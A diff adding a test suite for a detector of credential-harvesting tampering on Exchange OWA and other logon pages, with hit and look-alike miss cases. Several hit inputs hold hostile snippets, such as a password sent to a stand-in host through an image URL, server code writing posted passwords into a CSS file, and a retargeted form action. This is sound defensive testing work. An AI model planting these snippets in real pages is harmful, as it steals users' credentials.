@@ -1,0 +1,167 @@
+import detector from '../../../src/detectors/webshell/logon-page-capability.js';
+import { fakeArtifact } from '../../helpers/detector-context.js';
+import { testDetector } from '../../helpers/detector-tester.js';
+import { inlinePage } from './inline-page.js';
+import { webSample } from './web-sample.js';
+
+const sample = webSample(detector.id);
+const AUTH = 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\';
+
+const lying = (windowsPath: string) => ({ context: { artifact: fakeArtifact({ windowsPath }) } });
+const page = lying(`${AUTH}logon.aspx`);
+const script = lying(`${AUTH}15.1.2507\\scripts\\premium\\flogon.js`);
+const application = lying('D:\\sites\\shop\\signin.html');
+
+const FORM =
+  '<form action="/owa/auth.owa" method="post" name="logonForm"><input id="username"><input id="password" type="password"></form>';
+const logon = (markup: string) =>
+  inlinePage(
+    'aspx',
+    `<%@ Page Language="C#" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>\n<html><body>${FORM}\n${markup}\n</body></html>`,
+  );
+const signIn = (code: string) =>
+  inlinePage(
+    'html',
+    `<form action="/session" method="post"><input type="password" id="password"></form>\n<script>${code}</script>`,
+  );
+
+testDetector(detector, {
+  hits: [
+    {
+      name: 'password that a request of its own takes',
+      input: sample('hit/flogon.js.split'),
+      ...script,
+      detections: [
+        { message: 'sent', at: { line: 9 }, severity: 'high' },
+        { message: 'channel', at: { line: 7 }, severity: 'medium' },
+      ],
+    },
+    {
+      name: 'a copy of the script, wherever it lies',
+      input: sample('hit/flogon.js.split'),
+      detections: [
+        { message: 'sent', at: { line: 9 } },
+        { message: 'channel', at: { line: 7 } },
+      ],
+    },
+    {
+      name: 'script of another host',
+      input: logon('<script src="https://scripts.example/a.js"></script>'),
+      ...page,
+      detections: [{ message: 'loaded', at: { line: 3 }, severity: 'medium' }],
+    },
+    {
+      name: 'form that goes to another host',
+      input: logon('<script>document.logonForm.action = "https://mail.example/auth.owa";</script>'),
+      ...page,
+      detections: [
+        {
+          message: 'retargeted',
+          at: { line: 3 },
+          severity: 'high',
+          data: { what: 'action', where: ' (mail.example)' },
+        },
+      ],
+    },
+    {
+      name: 'server code that keeps what the form holds',
+      input: logon('<% System.IO.File.AppendAllText(Server.MapPath("a.css"), Request.Form["password"]); %>'),
+      ...page,
+      detections: [{ message: 'reads', at: { line: 3 }, severity: 'high' }],
+    },
+    {
+      name: 'server code that reads the form into something that is not followed',
+      input: logon('<% Helper.Take(this.Context.Request.Form); %>'),
+      ...page,
+      detections: [{ message: 'reads', at: { line: 3 }, severity: 'medium' }],
+    },
+    {
+      name: 'server code that writes a script of another host',
+      input: logon('<% Response.Write("<script src=\'https://scripts.example/a.js\'></script>"); %>'),
+      ...page,
+      detections: [{ message: 'loaded', at: { line: 3 } }],
+    },
+    {
+      name: 'password of any application, hidden in the address of a picture',
+      input: signIn(
+        'function s() { new Image().src = "https://pictures.example/?" + document.getElementById("password").value; }',
+      ),
+      ...application,
+      detections: [{ message: 'sent', at: { line: 2 }, severity: 'high' }],
+    },
+    {
+      name: 'statistics that see no password are worth a look only',
+      input: logon('<script>new Image().src = "https://stats.example/p.gif?" + escape(location.pathname);</script>'),
+      ...page,
+      detections: [{ message: 'channel', at: { line: 3 }, severity: 'low' }],
+    },
+    {
+      name: 'captcha of a host that serves only its own script',
+      input: logon('<script src="https://www.google.com/recaptcha/api.js"></script>'),
+      ...page,
+      detections: [{ message: 'loaded', at: { line: 3 }, severity: 'low' }],
+    },
+    {
+      name: 'service for a second factor that is asked by name',
+      input: logon(
+        '<script>function ask() { var x = new XMLHttpRequest(); x.open("GET", "/mfa/state?u=" + document.getElementById("username").value); x.send(); }</script>',
+      ),
+      ...page,
+      detections: [{ message: 'channel', at: { line: 3 }, severity: 'low' }],
+    },
+  ],
+  misses: [
+    { name: 'page of the product', input: sample('miss/logon.aspx'), ...page, looksAlike: true },
+    { name: 'script of the product', input: sample('miss/flogon.js'), ...script, looksAlike: true },
+    {
+      name: 'logo and theme of the company',
+      input: logon(
+        '<link rel="stylesheet" href="https://www.example/theme.css"><a href="https://www.example/"><img src="https://www.example/logo.png"></a>',
+      ),
+      ...page,
+      looksAlike: true,
+    },
+    {
+      name: 'redirection to single sign-on',
+      input: logon(
+        '<script>if (!/local=1/.test(location.search)) location.replace("https://sso.example/?wa=wsignin1.0");</script>',
+      ),
+      ...page,
+      looksAlike: true,
+    },
+    {
+      name: 'page that asks for a new password',
+      input: inlinePage(
+        'aspx',
+        '<script>function check() { var a = gbid("newPwd1"), b = gbid("newPwd2"); if (a.value != b.value || a.value.length == 0) { a.value = ""; a.focus(); return false; } document.forms[0].submit(); }</script><form action="" method="post"><input type="password" id="newPwd1"><input type="password" id="newPwd2"></form>',
+      ),
+      ...lying(`${AUTH}expiredpassword.aspx`),
+      looksAlike: true,
+    },
+    {
+      name: 'theme script of AD FS that accepts names without a domain',
+      input: inlinePage(
+        'js',
+        'Login.submitLoginRequest = function () { var user = document.getElementById(Login.userNameInput); var password = document.getElementById(Login.passwordInput); if (!password.value) { new InputUtil().setError(password, new LoginErrors().passwordEmpty); return false; } user.value = "contoso\\\\" + user.value; document.forms["loginForm"].submit(); return false; };',
+      ),
+      ...lying('C:\\themes\\adfs\\script\\onload.js'),
+      looksAlike: true,
+    },
+    {
+      name: 'application that asks its own service whether the password is right',
+      input: signIn(
+        'fetch("https://api.shop.example/session", { method: "POST", body: JSON.stringify({ password: document.getElementById("password").value }) }); new Image().src = "https://stats.example/p.gif";',
+      ),
+      ...application,
+      looksAlike: true,
+    },
+    {
+      name: 'application that asks for statistics beside its logon form',
+      input: signIn(
+        'var i = document.createElement("script"); i.src = "https://stats.example/a.js"; document.head.appendChild(i);',
+      ),
+      ...application,
+      looksAlike: true,
+    },
+  ],
+});
